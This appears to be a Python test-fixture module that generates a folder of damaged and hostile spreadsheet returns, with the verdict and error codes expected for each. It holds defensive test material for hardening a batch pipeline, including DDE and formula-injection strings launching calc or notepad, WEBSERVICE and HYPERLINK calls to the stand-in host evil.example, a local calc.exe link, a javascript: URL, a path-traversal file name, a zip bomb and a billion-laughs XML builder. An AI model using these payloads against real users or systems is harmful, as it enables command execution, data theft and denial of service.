"""A folder of broken and hostile returns, built from real generated workbooks, beside good ones.

`build_corpus(folder)` writes every case of the hostile-returns issue into one input folder and
says what the batch must make of each: its verdict and the problem codes it must carry. Nothing
here is a committed binary: each file is a generated workbook, filled in, then damaged by openpyxl
edits or zip surgery, or a few hand-written bytes where the case is "not a workbook at all".
"""

from __future__ import annotations

import datetime as dt
import io
import os
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import msoffcrypto.format.ooxml
from helpers import edit, filled_and_changed, filled_return, rezip, row_number
from openpyxl import Workbook
from openpyxl.drawing.image import Image
from openpyxl.formatting.rule import FormulaRule
from openpyxl.packaging.custom import CustomPropertyList
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from PIL import Image as PILImage

from pipeline import framework, layout, vocabulary, workbook
from pipeline.members import load_members
from pipeline.outputs import display_name
from pipeline.vocabulary import ACCEPTED, REJECTED, SKIPPED, SUPERSEDED, WITH_WARNINGS

YEAR = "2025-26"
GENERATED = dt.date(2025, 4, 1)
#: The --passwords file of the second run: the encrypted return's member and its password.
PASSWORDS = {"merseyside": "Corpus-Secret-1", "wiltshire": "Corpus-Secret-2"}
ENCRYPTED = "merseyside-equality-self-assessment-2025-26.xlsx"
#: An encrypted return whose name names nobody: its password is found by trying each one.
FREE_FORM_ENCRYPTED = "Our return (final).xlsx"
#: A Latin-1 file name from an old zip or mail client: not valid UTF-8.
LATIN1_NAME = "Caf\xe9 r\xe9sum\xe9 cambridgeshire.xlsx".encode("latin-1")
#: A name longer than a document property may hold once the report quotes it.
LONG_NAME = "thames-valley " + "final return as agreed by the board " * 6 + ".xlsx"
#: Formulas typed outside cells: defined names, a conditional format and a validation.
OUTSIDE_CELLS = {
    "Evil": "cmd|'/C calc'!A0",
    "Lure": 'HYPERLINK("http://evil.example/name","Click")',
    "_xlnm.Auto_Open": "'1 Communities'!$A$1",
}
WEBSERVICE = 'WEBSERVICE("http://evil.example/steal")'
#: What the zip bomb unpacks to: more than the default limit of 200 MB, from a file of ~300 KB.
BOMB_BYTES = 256 * 1024 * 1024
#: The file whose name tries to climb out of the folder.
CLIMBING = "suffolk ..\\..\\return...xlsx"

#: Text from a return that must never become a formula, a link or markup in an output.
INJECTIONS = {
    "hyperlink": '=HYPERLINK("http://evil.example/steal","Click for details")',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dde": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C notepad'!A0",
    "markup": "<w:hyperlink r:id='rId1'>Board</w:hyperlink> {{ field }} <b>bold</b>",
}
#: A link inserted on a cell (Insert > Link) that opens a program rather than a web page.
LOCAL_LINK = "file:///C:/Windows/System32/calc.exe"
#: Typed into a cell without an apostrophe, so Excel stores it as a real formula.
TYPED_FORMULA = "=1+1"
WELSH = "Cyfarfod y Bwrdd – ŵ ŷ; Comisiynydd Heddlu a Throseddu 👍🏽 العربية עברית"


@dataclass(frozen=True)
class Expectation:
    """What the batch must say about one file: its verdict, the codes it must carry (exactly
    these), and the member whose return it is ("" when it cannot be told)."""

    verdict: str
    codes: frozenset[str]
    member: str = ""


def _expect(verdict: str, *codes: str, member: str = "") -> Expectation:
    return Expectation(verdict, frozenset(codes), member)


class _Maker:
    """Blank generated workbooks (made once per member and year) filled into the corpus folder."""

    def __init__(self, folder: Path, scratch: Path) -> None:
        self.folder, self.scratch = folder, scratch
        self.members = load_members().set_index("code", drop=False)

    def blank(self, code: str, year: str = YEAR) -> Path:
        path = workbook.workbook_path(self.scratch / year, code, year)
        if not path.exists():
            member = self.members.loc[code].to_dict()
            workbook.generate_workbook(member, year, self.scratch / year, generated=GENERATED)
        return path

    def clean(self, code: str, year: str = YEAR) -> Path:
        """A complete return with nothing to warn about, kept outside the corpus folder."""
        target = self.scratch / "clean" / year / f"{code}.xlsx"
        if not target.exists():
            filled_return(self.blank(code, year), target)
        return target

    def name(self, code: str, year: str = YEAR) -> Path:
        return self.folder / layout.WORKBOOK_NAME.format(code=code, year=year)

    def filled(self, code: str, target: Path | None = None, **values: object) -> Path:
        return filled_return(self.blank(code), target or self.name(code), **values)

    def damaged(self, code: str, change: Callable[[Workbook], None], name: str = "") -> Path:
        """A complete return opened in a spreadsheet, changed and saved into the corpus."""
        target = self.folder / name if name else self.name(code)
        return filled_and_changed(self.blank(code), change, target)

    def write(self, name: str, data: bytes) -> Path:
        path = self.folder / name
        path.write_bytes(data)
        return path


# --- files that are not a workbook at all --------------------------------------------------------


def legacy_xls() -> bytes:
    """A minimal but well-formed OLE compound file holding a 'Workbook' stream: what olefile
    (and Excel) sees in a .xls saved by Excel 97-2003."""
    end, free, fat_sector, no_stream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
    header += struct.pack("<109I", 0, *[free] * 108)
    fat = [fat_sector, end, *range(3, 10), end] + [free] * (128 - 10)

    def entry(name: str, kind: int, child: int, start: int, size: int) -> bytes:
        encoded = (name + "\0").encode("utf-16-le") if name else b""
        return (
            encoded.ljust(64, b"\0")
            + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack("<III", no_stream, no_stream, child)
            + bytes(16 + 4 + 16)
            + struct.pack("<IQ", start, size)
        )

    directory = entry("Root Entry", 5, 1, end, 0) + entry("Workbook", 2, no_stream, 2, 4096)
    directory += entry("", 0, no_stream, 0, 0) * 2
    return header + struct.pack("<128I", *fat) + directory + bytes(4096)


def zip_bomb(clean: Path, target: Path, size: int = BOMB_BYTES) -> Path:
    """The return plus one part of `size` zero bytes: a few hundred KB that unpack past any
    sane limit. Written in chunks so that building it needs no memory either."""
    with zipfile.ZipFile(clean) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            new.writestr(info.filename, old.read(info))
        chunk = bytes(1 << 20)
        with new.open("xl/media/image1.png", "w", force_zip64=True) as part:
            for _ in range(size // len(chunk)):
                part.write(chunk)
    return target


#: The part the billion-laughs sheet replaces: the Profile sheet, which openpyxl does parse.
LAUGHS_PART = "xl/worksheets/sheet2.xml"


def billion_laughs(clean: Path, target: Path) -> Path:
    """A worksheet whose one cell is an entity that expands to 10**9 "lol"s (3 GB)."""
    entities = ['<!ENTITY lol0 "lol">']
    for level in range(1, 10):
        entities.append(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">')
    sheet = (
        f'<?xml version="1.0"?><!DOCTYPE worksheet [{"".join(entities)}]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    return rezip(clean, target, replace={LAUGHS_PART: sheet.encode()})


def encrypt(plain: Path, target: Path, password: str) -> Path:
    with open(plain, "rb") as source, open(target, "wb") as out:
        msoffcrypto.format.ooxml.OOXMLFile(source).encrypt(password, out)
    return target


# --- edits a person makes -------------------------------------------------------------------------


def _set_profile(label: str, value: object) -> Callable[[Workbook], None]:
    """Type `value` next to `label` on the Profile sheet."""

    def change(book: Workbook) -> None:
        for (cell,) in book[layout.PROFILE_SHEET].iter_rows(min_col=1, max_col=1):
            if cell.value == label:
                cell.offset(column=1).value = value

    return change


def _set_member(code: str) -> Callable[[Workbook], None]:
    """The workbook made over to another member code everywhere it is recorded."""

    def change(book: Workbook) -> None:
        for row in book[layout.META_SHEET].iter_rows(min_col=1, max_col=2):
            if row[0].value == "opcc_code":
                row[1].value = code
        book.custom_doc_props = CustomPropertyList()
        _set_profile(layout.PROFILE_LABELS["opcc_code"], code)(book)

    return change


def _delete_sheets(*titles: str) -> Callable[[Workbook], None]:
    def change(book: Workbook) -> None:
        for title in titles:
            del book[title]

    return change


def _rename_sheets(book: Workbook) -> None:
    book[layout.SECTION_SHEETS[1]].title = "Communities (final)"
    book[layout.SECTION_SHEETS[3]].title = "3 Services v2"
    book[layout.PROFILE_SHEET].title = "About us"


def _delete_rows(book: Workbook) -> None:
    ws = book[layout.SECTION_SHEETS[2]]
    for cid in ("7.2.a", "6.1.b"):
        ws.delete_rows(row_number(ws, cid))


def _duplicate_rows(book: Workbook) -> None:
    ws = book[layout.SECTION_SHEETS[2]]
    copy = [cell.value for cell in ws[row_number(ws, "6.1.a")]][:9]
    ws.append([*copy[:3], vocabulary.NOT_MET, "Second thoughts"])


def _edit_ids(book: Workbook) -> None:
    ws = book[layout.SECTION_SHEETS[3]]
    ws.cell(row=row_number(ws, "11.2.b"), column=1).value = "11.2b"
    ws.append(["99.9.z", None, "Our own extra criterion", vocabulary.MET, "Yes"])


def _formulas_as_typed(book: Workbook) -> None:
    """The injected text typed with a leading apostrophe (Excel keeps it as text), and on one
    row typed without (Excel keeps a formula) plus a link to a program on its Evidence link."""
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value == INJECTIONS["hyperlink"]:
                    cell.data_type = "s"
    ws = book[layout.SECTION_SHEETS[1]]
    row = row_number(ws, "1.2.a")
    ws.cell(row=row, column=5).value = INJECTIONS["hyperlink"]
    ws.cell(row=row, column=7).value = TYPED_FORMULA
    ws.cell(row=row, column=6).hyperlink = LOCAL_LINK


def _injections() -> dict[str, object]:
    """Formula-like and markup text in evidence, links, owner, profile, objectives, commentary."""
    texts = list(INJECTIONS.values())
    return {
        "answers": {
            "1.1.a": {"evidence": texts[0], "evidence_link": texts[0]},
            "1.1.b": {"evidence": texts[1], "owner": texts[2]},
            "1.2.b": {"evidence": texts[3], "evidence_link": "javascript:alert(1)"},
            "16.3.a": {"owner": texts[4], "evidence": texts[4]},
        },
        "profile": {"equality_statement": texts[0], "published_links": texts[2]},
        "objectives": [
            {
                "objective": texts[2],
                "related_themes": "1",
                "measure": texts[3],
                "baseline": texts[1],
                "target": texts[0],
                "progress": "On track",
                "commentary": texts[4],
            }
        ],
        "commentary": {1: texts[0], 2: texts[2], 16: texts[4]},
    }


def _far_cells(book: Workbook) -> None:
    """Something typed in the last row and column of the sheet: a used range of 17 billion cells."""
    ws = book[layout.SECTION_SHEETS[1]]
    ws.cell(row=1_048_576, column=16_384).value = "oops"
    ws.cell(row=5, column=16_384).value = "far right"
    book[layout.PROFILE_SHEET].cell(row=1_048_576, column=1).value = "."


def _formulas_outside_cells(book: Workbook) -> None:
    for name, text in OUTSIDE_CELLS.items():
        book.defined_names[name] = DefinedName(name, attr_text=text)
    ws = book[layout.SECTION_SHEETS[1]]
    ws.conditional_formatting.add("E1:E50", FormulaRule(formula=[WEBSERVICE]))
    validation = DataValidation(type="custom", formula1=WEBSERVICE)
    validation.add("F1:F50")
    ws.add_data_validation(validation)


def _bmp_logo() -> bytes:
    buffer = io.BytesIO()
    PILImage.new("RGB", (64, 48), "navy").save(buffer, format="BMP")
    return buffer.getvalue()


def damaged_logo(clean: Path, target: Path, scratch: Path) -> Path:
    """A BMP logo on the Profile sheet, cut short inside the zip: it opens (its header is whole)
    but cannot be decoded, so re-encoding it for the feedback copy fails."""

    def add_logo(book: Workbook) -> None:
        book[layout.PROFILE_SHEET].add_image(Image(io.BytesIO(_bmp_logo())), "E2")

    with_logo = edit(clean, add_logo, scratch / "logo.xlsx")
    with zipfile.ZipFile(with_logo) as archive:
        (media,) = [n for n in archive.namelist() if n.startswith("xl/media/")]
    return rezip(with_logo, target, replace={media: _bmp_logo()[:200]})  # header, then cut


def _unusual_files(folder: Path, make: _Maker, add: Callable) -> None:
    """What else sits in a shared folder: links, pipes, lock files, a folder linked in."""
    member = "bedfordshire"
    plain = make.filled(member)
    (folder / "sub").mkdir()
    (folder / "sub" / plain.name).symlink_to(Path("..") / plain.name)
    add(plain, _expect(SUPERSEDED, "W123", member=member))
    add(folder / "sub" / plain.name, _expect(ACCEPTED, member=member), f"sub/{plain.name}")
    (folder / "dangling.xlsx").symlink_to("nowhere.xlsx")
    add(folder / "dangling.xlsx", _expect(REJECTED, "E015"))
    (folder / "loop.xlsx").symlink_to("loop.xlsx")
    add(folder / "loop.xlsx", _expect(REJECTED, "E015"))
    os.mkfifo(folder / "pipe.xlsx")
    add(folder / "pipe.xlsx", _expect(REJECTED, "E015"))
    (folder / "device.xlsx").symlink_to("/dev/zero")
    add(folder / "device.xlsx", _expect(SKIPPED, "W125"))
    (folder / "elsewhere.xlsx").symlink_to(make.clean("kent"))
    add(folder / "elsewhere.xlsx", _expect(SKIPPED, "W125"))
    (folder / "linked folder").symlink_to("sub", target_is_directory=True)
    add(folder / "linked folder", _expect(SKIPPED, "W125"))
    for name in ("~$kent-equality-self-assessment-2025-26.xlsx", ".~lock.kent.xlsx#"):
        add(make.write(name, b"\x0bAPCC Admin" + bytes(150)), _expect(SKIPPED, "W125"))


# --- the corpus -----------------------------------------------------------------------------------


def build_corpus(folder: Path, scratch: Path | None = None) -> dict[str, Expectation]:
    """Write every case into `folder` (scratch files go in `scratch`, default a sibling) and
    return file name -> what the batch must make of it. The batch is run with --year 2025-26."""
    folder.mkdir(parents=True, exist_ok=True)
    make = _Maker(folder, scratch or folder.parent / f"{folder.name}-scratch")
    cases: dict[str, Expectation] = {}

    def add(path: Path, expectation: Expectation, key: str = "") -> None:
        assert key or path.parent == folder, path
        key = key or display_name(path.name)
        assert key not in cases, key
        cases[key] = expectation

    # Good returns, and a second, earlier return from kent that the later one replaces.
    for code in ("west-midlands", "essex"):
        add(make.filled(code), _expect(ACCEPTED, member=code))
    add(make.filled("kent"), _expect(ACCEPTED, member="kent"))
    early = make.filled(
        "kent", folder / "kent first try.xlsx", profile={"signoff_date": dt.date(2026, 4, 2)}
    )
    add(early, _expect(SUPERSEDED, "W123", member="kent"))

    # Not a workbook: each refused with one coded error, named by nobody.
    clean = make.clean("surrey")
    not_workbooks = {
        "surrey notes.xlsx": b"Surrey: all met, see my email.\r\n",
        "surrey scan.xlsx": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
        "surrey legacy.xls": legacy_xls(),
        "surrey export.csv": b"ID,Status,Evidence\n1.1.a,Met,Minutes\n",
        "surrey empty.xlsx": b"",
        "surrey truncated.xlsx": clean.read_bytes()[: clean.stat().st_size // 2],
        "surrey damaged ole.xlsx": legacy_xls()[:8] + bytes(1528),  # an OLE header, then zeros
    }
    codes = {"surrey truncated.xlsx": "E002", "surrey damaged ole.xlsx": "E002"}
    for name, data in not_workbooks.items():
        add(make.write(name, data), _expect(REJECTED, codes.get(name, "E001")))
    add(zip_bomb(clean, folder / "surrey bomb.xlsx"), _expect(REJECTED, "E004"))
    add(billion_laughs(clean, folder / "surrey laughs.xlsx"), _expect(REJECTED, "E003"))
    encrypted = encrypt(make.clean("merseyside"), folder / ENCRYPTED, PASSWORDS["merseyside"])
    add(encrypted, _expect(REJECTED, "E005"))
    free_form = folder / FREE_FORM_ENCRYPTED
    add(
        encrypt(make.clean("wiltshire"), free_form, PASSWORDS["wiltshire"]),
        _expect(REJECTED, "E005"),
    )
    add(
        make.write("scan of return.pdf", not_workbooks["surrey scan.xlsx"]),
        _expect(REJECTED, "E001"),
    )

    # Workbooks that cannot be used: whose, which year, what shape.
    add(
        make.damaged("sussex", _set_member("atlantis"), "atlantis-equality-2025-26.xlsx"),
        _expect(REJECTED, "E010"),
    )
    old_year = filled_return(make.blank("lincolnshire", "2024-25"), make.name("lincolnshire"))
    add(old_year, _expect(REJECTED, "E012", "W115", member="lincolnshire"))
    add(
        make.damaged("durham", _delete_sheets(*layout.SECTION_SHEETS.values())),
        _expect(REJECTED, "E007"),
    )

    # Damage that leaves a usable return, one member each (two would supersede each other).
    def warned(path: Path, *codes: str) -> None:
        member = path.name.split("-equality")[0]
        add(path, _expect(WITH_WARNINGS, *codes, member=member))

    xlsm = make.name("cheshire").with_suffix(".xlsm")
    macro = {"xl/vbaProject.bin": b"\xd0\xcf" * 64}
    warned(rezip(make.clean("cheshire"), xlsm, add=macro), "W121")
    profile_gone = _delete_sheets(layout.OBJECTIVES_SHEET, layout.PROFILE_SHEET)
    warned(make.damaged("derbyshire", profile_gone), "W120")
    warned(make.damaged("cleveland", _delete_rows), "W116")
    warned(make.damaged("dorset", _duplicate_rows), "W117")
    warned(make.damaged("gloucestershire", _edit_ids), "W118", "W119")
    misspelt = {"3.1.a": "Mett", "3.1.b": "Partialy met", "3.1.c": "n/a"}
    warned(make.filled("gwent", statuses=misspelt), "W101", "W104")
    essay = ("We consulted. " * 3000)[:32_767]
    warned(make.filled("hertfordshire", answers={"2.1.a": {"evidence": essay}}), "W122")
    dates = {"16.3.a": {"target_date": "31/03/2027"}, "16.3.b": {"target_date": "soon"}}
    typed = {"signoff_date": "20/05/2026", "employees": "24"}
    warned(make.filled("lancashire", answers=dates, profile=typed), "W106")
    warned(make.damaged("nottinghamshire", _far_cells), "W124")
    warned(
        edit(make.filled("avon-and-somerset", statuses={"1.1.a": "Mett"}), _formulas_outside_cells),
        "W101",
    )
    logo = damaged_logo(
        make.filled("warwickshire", make.scratch / "warwickshire.xlsx", statuses={"1.1.a": "Mett"}),
        make.name("warwickshire"),
        make.scratch,
    )
    warned(logo, "W101")
    warned(make.damaged("leicestershire", _set_profile("Reporting year", "2024-25")), "W115")
    make.filled("hampshire-and-isle-of-wight", **_injections())
    warned(edit(make.name("hampshire-and-isle-of-wight"), _formulas_as_typed), "W103")

    # Accepted as they are: tolerated edits, awkward text, awkward names.
    def accepted(path: Path, member: str) -> None:
        add(path, _expect(ACCEPTED, member=member))

    accepted(make.damaged("cumbria", _rename_sheets), "cumbria")
    accepted(
        make.filled(
            "humberside",
            statuses={"2.1.b": "Met_x000B_", "2.1.c": "  met\t"},
            answers={"2.1.a": {"evidence": "Board_x000B_minutes\u200b\tline two\r\nline three"}},
            profile={"lead_role": "Pennaeth Polisi_x000B_"},
        ),
        "humberside",
    )
    accepted(
        make.filled(
            "north-wales",
            folder / "Gogledd Cymru – north-wales ✓ return.xlsx",
            answers={"2.1.c": {"evidence": WELSH}, "4.1.a": {"owner": "Prif Weithredwr ⚖"}},
            profile={"equality_statement": WELSH},
            commentary={2: WELSH},
        ),
        "north-wales",
    )
    accepted(make.filled("norfolk", folder / "Norfolk OPCC return FINAL (v2) .xlsx"), "norfolk")
    accepted(make.filled("suffolk", folder / CLIMBING), "suffolk")
    accepted(make.filled("staffordshire", folder / "Staffordshire return - final"), "staffordshire")
    latin1 = Path(os.fsdecode(os.fsencode(folder) + b"/" + LATIN1_NAME))
    accepted(make.filled("cambridgeshire", latin1), "cambridgeshire")
    accepted(make.filled("thames-valley", folder / LONG_NAME), "thames-valley")
    _unusual_files(folder, make, add)
    return dict(sorted(cases.items()))


def wordy_return(folder: Path, scratch: Path, code: str = "essex") -> Path:
    """A genuine return that unpacks to about 1.6 MB: long evidence on every criterion."""
    folder.mkdir(parents=True, exist_ok=True)
    essay = "We consulted community groups, reviewed the data and reported to the board. " * 70
    answers = {c.id: {"evidence": f"{c.id}: {essay}"} for c in framework.load().criteria}
    return _Maker(folder, scratch).filled(code, answers=answers)
